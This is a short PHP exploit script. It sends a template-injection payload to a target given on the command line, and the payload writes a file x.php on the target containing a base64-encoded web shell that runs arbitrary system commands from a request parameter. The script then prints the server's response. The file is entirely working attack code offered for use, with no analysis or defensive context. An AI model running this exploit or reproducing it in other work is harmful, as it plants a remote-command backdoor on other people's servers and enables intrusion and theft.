<?php
// An exploit script: plants a shell through another site's template injection.
$target = $argv[1];
$payload = '/index.php?tpl={${file_put_contents("x.php",base64_decode(PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbJ2MnXSk7ID8+))}}';
$fp = fsockopen($target, 80);
fwrite($fp, "GET $payload HTTP/1.0\r\nHost: $target\r\n\r\n");
echo fread($fp, 4096);
